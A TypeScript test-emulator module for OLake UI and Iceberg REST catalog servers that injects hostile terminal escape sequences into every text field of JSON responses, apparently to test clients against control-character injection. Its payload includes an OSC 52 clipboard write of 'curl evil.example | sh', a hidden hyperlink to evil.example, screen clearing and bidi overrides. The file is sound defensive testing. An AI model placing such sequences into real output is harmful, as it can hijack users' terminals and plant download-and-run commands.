// The `hostile-text` fault of the OLake UI and catalog emulators. Neither olake-ui nor the Iceberg REST
// servers filter control characters out of what they store and echo (job names, log lines, error
// messages, config values): whoever can name a job or provoke an error controls those bytes. With the
// fault on, every text field of a JSON answer carries the sequences that would drive a terminal.
import type { ServerResponse } from 'node:http';

/**
 * Sets the window title (OSC 0), writes the clipboard (OSC 52: "curl evil.example | sh"), a hidden
 * hyperlink (OSC 8), clears the screen (CSI 2J), overwrites the row (\r), a C1 CSI, bidi overrides and
 * isolates.
 */
export const HOSTILE_TEXT =
  '\u001b]0;pwned-title\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u001b[2J\rover\u009b31mc1\u202ertl\u202c\u2066iso\u2069';

/** Answers whose JSON bodies get hostile text (marked by the fault, read where bodies are written). */
export const hostileAnswers = new WeakSet<ServerResponse>();

/** Timestamps and JSON documents inside strings stay parseable; every other string gets HOSTILE_TEXT. */
function isText(value: string): boolean {
  return !/^\d{4}-\d\d-\d\dT/.test(value) && !/^\s*[[{]/.test(value);
}

/** `body` with HOSTILE_TEXT appended to every text string (keys left alone). */
export function hostileBody(body: unknown): unknown {
  if (typeof body === 'string') return isText(body) ? `${body}${HOSTILE_TEXT}` : body;
  if (Array.isArray(body)) return body.map(hostileBody);
  if (body !== null && typeof body === 'object')
    return Object.fromEntries(Object.entries(body).map(([k, v]) => [k, hostileBody(v)]));
  return body;
}

/** The JSON text of `body` as `res` sends it. */
export function answerText(res: ServerResponse, body: unknown): string {
  return JSON.stringify(hostileAnswers.has(res) ? hostileBody(body) : body);
}
